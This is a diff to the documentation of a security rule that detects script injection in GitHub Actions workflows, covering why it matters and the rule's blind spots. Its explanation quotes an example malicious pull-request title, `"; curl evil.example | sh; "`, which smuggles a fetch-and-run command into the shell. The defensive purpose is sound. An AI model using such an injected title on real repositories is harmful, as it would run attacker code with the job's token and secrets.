@@ -2,10 +2,10 @@
 
 ## Why it matters
 
-GitHub replaces `${{ ... }}` in a script by its value and then hands the result to the shell. A pull
-request titled `"; curl evil.example | sh; "` is then no longer a title but a command, and it runs with
-the job's token and secrets. Quotes don't help: the text has its own. It is the same when the text takes a
-detour through `env` expressions, step and job outputs, a matrix, or an action's inputs.
+GitHub replaces `${{ ... }}` in a script by its value and then hands the result to the shell. A pull request
+titled `"; curl evil.example | sh; "` is then no longer a title but a command, and it runs with the job's
+token and secrets. Quotes don't help: the text has its own. It is the same when the text takes a detour
+through `env` expressions, step and job outputs, a matrix, or an action's inputs.
 
 How bad it is depends on who writes the text and what the run may do: an outsider's text in a run with a
 token that may write or secrets is critical, the same in a fork's own pull request (read-only token, no
@@ -52,12 +52,12 @@ jobs:
 
 ## What this rule cannot see
 
-Text that a script reads itself (`gh pr view`, a file of the checkout) and what a program does with a
-variable later. Outputs of actions in other repositories are taken for clean, and so is what a script in
-PowerShell, Python or cmd writes to its outputs. A script that a reusable workflow of another repository
-takes as an input isn't looked at, nor is a step's own `shell`. Arguments of a `docker://` step count where
-a shell is named in them. It assumes the worst about a condition that it can't decide, and names
-it.
+What a program does with a variable later: where a script makes code of one, it is `shell-injection`.
+Outputs of actions that aren't in its tables are not known, nor is what a command prints that isn't in them,
+and what a script in a language other than bash, sh, PowerShell, cmd, Python and JavaScript hands on. A file
+counts where a step of the same job wrote it. A script that a reusable workflow of another repository takes
+as an input isn't looked at. Arguments of a `docker://` step count where a shell is named in them. It
+assumes the worst about a condition that it can't decide, and names it.
 
 ## References
 
